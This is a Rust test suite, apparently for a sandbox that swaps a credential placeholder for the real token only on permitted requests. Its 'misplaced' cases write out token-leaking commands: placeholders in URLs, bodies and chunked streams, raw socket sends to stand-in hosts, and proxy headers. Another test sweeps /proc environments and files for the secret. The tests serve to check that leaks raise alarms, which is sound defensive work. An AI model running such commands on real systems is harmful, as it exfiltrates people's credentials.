//! Credentials: the server gets the value, and nothing inside ever does; the placeholder anywhere else is an alarm and goes
//! nowhere. A control is the same line without a fence, with a placeholder of its own, or the value in the environment.

use super::inspect::{NEEDED, run};
use crate::internet;
use crate::internet::line::Judge;
use crate::row::{Outcome, Row};
use crate::session::Session;

/// A line that sends the placeholder where it does not belong; `$P` is the placeholder, `$C` is curl.
struct Misplaced {
    name: &'static str,
    line: &'static str,
    /// A beginning of what the servers write when it gets there.
    reaches: &'static str,
}

/// A line that uses it as it is meant.
struct Used {
    name: &'static str,
    tool: &'static str,
    line: &'static str,
    /// A line of the servers.
    arrives: &'static str,
}

const REAL: &str = "real-value-of-the-token";
const PRINTED: &str = "value-that-a-program-printed";
/// `u:` and the value, as RFC 7617 has it.
const BASIC: &str = "dTpyZWFsLXZhbHVlLW9mLXRoZS10b2tlbg==";
const FAKE: &str = "ringfence-placeholder-0000000000000000000000000000000000000000";
/// What only a placeholder has.
const MARK: &str = "ringfence-placeholder-";

const POLICY: &str = r#"version = 1
[network]
mode = "rules"
allow = ["api.example", "shared.example", "other.example", "good.example", "203.0.113.11:443"]
[environment]
pass = ["REAL_TOKEN", "ALIAS"]
[[network.credential]]
host = "api.example"
header = "Authorization"
paths = ["/ok/**", "/echo", "/slowly", "/field", "/git/**"]
source = { env = "REAL_TOKEN" }
placeholder = { env = "P" }
[[network.credential]]
host = "api.example"
header = "X-Token"
methods = ["GET"]
source = { command = ["printf", "value-that-%s", "a-program-printed"] }
placeholder = { file = "~/.config/tool/token" }
"#;

const USED: &[Used] = &[
    Used {
        name: "curl by http/2",
        tool: "curl",
        line: "$C -H \"Authorization: Bearer $P\" https://api.example/ok/1",
        arrives: "request tls/2 203.0.113.12 GET api.example /ok/1 0 [Bearer real-value-of-the-token]",
    },
    Used {
        name: "curl by http/1",
        tool: "curl",
        line: "$C --http1.1 -H \"Authorization: Bearer $P\" https://api.example/ok/1",
        arrives: "request tls/1 203.0.113.12 GET api.example /ok/1 0 [Bearer real-value-of-the-token]",
    },
    Used {
        name: "the password of Basic",
        tool: "curl",
        line: "$C -u \"u:$P\" https://api.example/ok/1",
        arrives: "request tls/2 203.0.113.12 GET api.example /ok/1 0 [Basic dTpyZWFsLXZhbHVlLW9mLXRoZS10b2tlbg==]",
    },
    Used {
        name: "a file",
        tool: "curl",
        line: "$C -H \"X-Token: $(cat ~/.config/tool/token)\" https://api.example/any",
        arrives: "request tls/2 203.0.113.12 GET api.example /any 0 [value-that-a-program-printed]",
    },
    Used {
        name: "node fetch",
        tool: "node",
        line: "node -e 'fetch(\"https://api.example/ok/1\",{headers:{authorization:process.env.P}}).then(r=>r.text()).then(console.log)'",
        arrives: "request tls/1 203.0.113.12 GET api.example /ok/1 0 [real-value-of-the-token]",
    },
    Used {
        name: "python requests",
        tool: "python3",
        line: "python3 -c '\ntry: import requests\nexcept ImportError: from pip._vendor import requests\nimport os\n\
               print(requests.get(\"https://api.example/ok/1\",headers={\"Authorization\":\"token \"+os.environ[\"P\"]},timeout=5).text)'",
        arrives: "request tls/1 203.0.113.12 GET api.example /ok/1 0 [token real-value-of-the-token]",
    },
    Used {
        name: "git",
        tool: "git",
        line: "git ls-remote https://u:$P@api.example/git/repo.git",
        arrives: "request tls/2 203.0.113.12 GET api.example /git/repo.git/HEAD 0 [Basic dTpyZWFsLXZhbHVlLW9mLXRoZS10b2tlbg==]",
    },
];

const MISPLACED: &[Misplaced] = &[
    Misplaced {
        name: "in another field",
        line: "$C -H \"X-Other: $P\" https://api.example/ok/x",
        reaches: "request tls/2 203.0.113.12 GET api.example /ok/x",
    },
    Misplaced {
        name: "in its field for another path",
        line: "$C -H \"Authorization: Bearer $P\" https://api.example/else",
        reaches: "request tls/2 203.0.113.12 GET api.example /else",
    },
    Misplaced {
        name: "in its field by another method",
        line: "$C -X POST -H \"X-Token: $(cat ~/.config/tool/token 2>/dev/null || echo $P)\" https://api.example/ok/x",
        reaches: "request tls/2 203.0.113.12 POST api.example /ok/x",
    },
    Misplaced {
        name: "in its field without encryption",
        line: "$C -H \"Authorization: Bearer $P\" http://api.example/ok/x",
        reaches: "request plain/1 203.0.113.12 GET api.example /ok/x",
    },
    Misplaced {
        name: "in a URL",
        line: "$C \"https://api.example/ok/x?token=$P\"",
        reaches: "request tls/2 203.0.113.12 GET api.example /ok/x?token",
    },
    Misplaced {
        name: "in a URL, encoded",
        line: "$C \"https://api.example/ok/x?token=%72$(echo $P | cut -c2-)\"",
        reaches: "request tls/2 203.0.113.12 GET api.example /ok/x?token",
    },
    Misplaced {
        name: "in a body",
        line: "$C -d \"a=$P\" https://api.example/ok/x",
        reaches: "request tls/2 203.0.113.12 POST api.example /ok/x",
    },
    Misplaced {
        name: "in a body, across its pieces",
        line: "{ head -c 200000 /dev/zero | tr '\\0' x; printf %s \"$P\" | head -c 20; sleep 0.3; printf %s \"$P\" | tail -c +21; } | \
               $C --http1.1 -H Transfer-Encoding:chunked -T - -X POST https://api.example/ok/x",
        reaches: "request tls/1 203.0.113.12 POST api.example /ok/x 200062",
    },
    Misplaced {
        name: "in a body whose answer has begun",
        line: "raw 'POST /stream HTTP/1.1\\r\\nHost: api.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n3\\r\\nabc\\r\\n' \
               \"3e\\\\r\\\\n$P\\\\r\\\\n0\\\\r\\\\n\\\\r\\\\n\"",
        reaches: "request tls/1 203.0.113.12 POST api.example /stream 65",
    },
    Misplaced {
        name: "in the password of Basic for another path",
        line: "$C -u \"u:$P\" https://api.example/else",
        reaches: "request tls/2 203.0.113.12 GET api.example /else",
    },
    Misplaced {
        name: "to another host without encryption",
        line: "$C -H \"Authorization: Bearer $P\" http://good.example/x",
        reaches: "data 203.0.113.10 80 GET /x",
    },
    Misplaced {
        name: "to an address on a port that is looked into",
        line: "python3 -c 'import os,socket; s=socket.create_connection((\"203.0.113.11\",443),3); s.sendall((\"\\x01hello \"+os.environ[\"P\"]).encode())'; sleep 0.3",
        reaches: "data 203.0.113.11 443 \\x01hello",
    },
    Misplaced {
        name: "to another host, in no protocol of the web",
        line: "python3 -c 'import os,socket; s=socket.create_connection((\"good.example\",80),3); s.sendall((\"\\x01hello \"+os.environ[\"P\"]).encode())'; sleep 0.3",
        reaches: "data 203.0.113.10 80 \\x01hello",
    },
];

pub(super) fn rows() -> Vec<Row> {
    let used = USED.iter().map(|used| {
        internet::row(
            format!("works: a credential is put in: {}", used.name),
            &[],
            &[&NEEDED[..], &[used.tool]].concat(),
            move |session| judge_used(session, used),
        )
    });
    let misplaced = MISPLACED.iter().map(|this| {
        internet::row(
            format!("credential: placeholder {}", this.name),
            &[48, 50, 54],
            &NEEDED,
            move |session| judge_misplaced(session, this),
        )
    });
    let own: [(&str, Judge); 5] = [
        ("credential: its value is nowhere inside", unseen),
        ("credential: a server that sends the value back is cut off", sent_back),
        ("credential: what comes late does not tell how a value begins", late),
        ("credential: the placeholder in the head of a CONNECT is an alarm", connect),
        ("credential: a source that fails refuses the run and is not shown", failing),
    ];
    let own = own.into_iter().map(|(name, judge)| internet::row(name, &[48, 54], &NEEDED, judge));
    used.chain(misplaced).chain(own).collect()
}

const VARIABLES: &[(&str, &str)] = &[("REAL_TOKEN", REAL)];

/// Without a fence, the placeholder is one of the control's own.
fn line(line: &str) -> String {
    line.replace("$C", "curl -s -m 5")
}

fn judge_used(session: &Session, used: &Used) -> Result<Outcome, String> {
    let told = run(session, Some(POLICY), VARIABLES, &line(used.line))?;
    let text = told.ran.text();
    let secret = [REAL, PRINTED, BASIC].iter().any(|value| text.contains(value));
    let good = told.ran.code == 0 && told.has(used.arrives) && !secret && !told.log.contains(MARK);
    told.judge(good)
}

fn judge_misplaced(session: &Session, this: &Misplaced) -> Result<Outcome, String> {
    let alive = "$C -H \"Authorization: Bearer $P\" https://api.example/ok/alive >/dev/null || exit 99\n";
    let told = run(session, Some(POLICY), VARIABLES, &line(&format!("{alive}{}", this.line)))?;
    told.holds("/ok/alive", told.has(this.reaches) || told.log.contains(MARK))?;
    if !told.ran.err().contains("ALARM: a credential's placeholder was sent to") {
        return Err(format!("no alarm: {}", told.ran.describe()));
    }
    let bare = run(session, None, &[("P", FAKE)], &line(this.line))?;
    Ok(bare.proves(bare.has(this.reaches)))
}

/// Everything that can be read is searched; and so is the report.
fn unseen(session: &Session) -> Result<Outcome, String> {
    // The pattern does not have the value in it, so that it finds nothing but others' words.
    let search = "$C -H \"Authorization: Bearer $P\" https://api.example/ok/1 >/dev/null; touch begun\n\
                  F='real-value-of-[t]he-token|value-that-a-[p]rogram-printed'\n\
                  env | grep -aoE \"$F\"; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | grep -aoE \"$F\"\n\
                  for d in / /etc /tmp /dev/shm \"$HOME\" /.ringfence; do timeout 10 find \"$d\" -xdev -maxdepth 4 -type f -not -path '/usr/*' \
                  -size -4000k -exec grep -aoE \"$F\" {} + 2>/dev/null; done; true";
    // Many have it under a second name.
    let variables = [VARIABLES, &[("ALIAS", REAL)]].concat();
    let told = run(session, Some(POLICY), &variables, &line(search))?;
    let text = told.ran.text();
    if !told.has("request tls/2 203.0.113.12 GET api.example /ok/1 0 [Bearer real-value-of-the-token]") {
        return Err(told.describe());
    }
    if text.contains(REAL) || text.contains(PRINTED) {
        return Err(format!("the value is inside: {}", told.ran.describe()));
    }
    // Without the credential, the same variable passes as the policy says.
    let passes = "version = 1\n[environment]\npass = [\"REAL_TOKEN\"]\n";
    let control = run(session, Some(passes), VARIABLES, "env")?;
    Ok(control.proves(control.ran.out().contains(REAL)))
}

fn sent_back(session: &Session) -> Result<Outcome, String> {
    let mut lines = String::new();
    for version in ["--http1.1", "--http2"] {
        for path in ["echo", "slowly", "field"] {
            lines += &format!(
                "curl -s -i -m 5 {version} -H \"Authorization: Bearer $P\" https://api.example/{path}\n"
            );
        }
        lines += &format!("curl -s -i -m 5 {version} -u \"u:$P\" https://api.example/echo\n");
    }
    lines += "true";
    let told = run(session, Some(POLICY), VARIABLES, &lines)?;
    let text = told.ran.text();
    let asked = told.log.matches("real-value-of-the-token]").count() + told.log.matches(BASIC).count();
    let alarm = text.contains("a credential's value came back from api.example:443");
    if asked != 8 || !alarm || text.contains(REAL) || text.contains(&BASIC[..24]) {
        return Err(told.describe());
    }
    let bare = run(session, None, &[("P", REAL)], &lines)?;
    Ok(bare.proves(bare.ran.out().matches(REAL).count() >= 6 && bare.ran.out().contains(BASIC)))
}

/// Has a server say the beginning of the value, and something else, and tells which comes at once. The other ends as a
/// placeholder begins, and nothing follows it: that must come too.
const LATE: &str = r#"
import socket, ssl
for start in ("real-va", "another"):
    s = ssl.create_default_context().wrap_socket(socket.create_connection(("api.example", 443), 5), server_hostname="api.example")
    s.sendall(b"POST /stream HTTP/1.1\r\nHost: api.example\r\nTransfer-Encoding: chunked\r\n\r\n7\r\n%s\r\n" % start.encode())
    s.settimeout(2)
    heard = b""
    try:
        while start.encode() not in heard: heard += s.recv(999) or 1/0
        print(start, "at once")
    except OSError: print(start, "late")
"#;

fn late(session: &Session) -> Result<Outcome, String> {
    let line = format!("python3 -c '{LATE}'");
    let both = "real-va at once\nanother at once";
    let told = run(session, Some(POLICY), VARIABLES, &line)?;
    let bare = run(session, None, &[], &line)?;
    match (told.ran.out().contains(both), bare.ran.out().contains(both)) {
        (_, false) => Ok(Outcome::NotProved(bare.ran.describe())),
        (true, true) => Ok(Outcome::Passed),
        (false, true) => Err(told.ran.describe()),
    }
}

fn connect(session: &Session) -> Result<Outcome, String> {
    let line =
        "curl -s -m 5 -x http://127.0.0.1:1023 --proxy-header \"X: $P\" -p http://good.example/x; true";
    let told = run(session, Some(POLICY), VARIABLES, line)?;
    let without = run(session, Some(POLICY), VARIABLES, &line.replace("$P", "x"))?;
    if !without.log.contains("GET /x") {
        return Ok(without.proves(false));
    }
    let alarm = told.ran.err().contains("ALARM");
    if alarm && !told.log.contains("GET /x") { Ok(Outcome::Passed) } else { Err(told.ran.describe()) }
}

fn failing(session: &Session) -> Result<Outcome, String> {
    let with = |source: &str| POLICY.replace("{ env = \"REAL_TOKEN\" }", source);
    let cases = [
        ("{ env = \"NOT_SET\" }", "the variable NOT_SET is not set"),
        ("{ file = \"/nowhere/token\" }", "cannot be read"),
        ("{ command = [\"sh\", \"-c\", \"echo half-of-a-secret; exit 3\"] }", "exit status: 3"),
        ("{ command = [\"echo\", \"short\"] }", "fewer than 8 characters"),
    ];
    for (source, says) in cases {
        let told = run(session, Some(&with(source)), VARIABLES, "echo it ran")?;
        let text = told.ran.text();
        if told.ran.code == 0
            || text.contains("it ran")
            || !text.contains(says)
            || !text.contains("policy.toml:")
        {
            return Err(format!("{source}: {}", told.ran.describe()));
        }
    }
    Ok(Outcome::Passed)
}
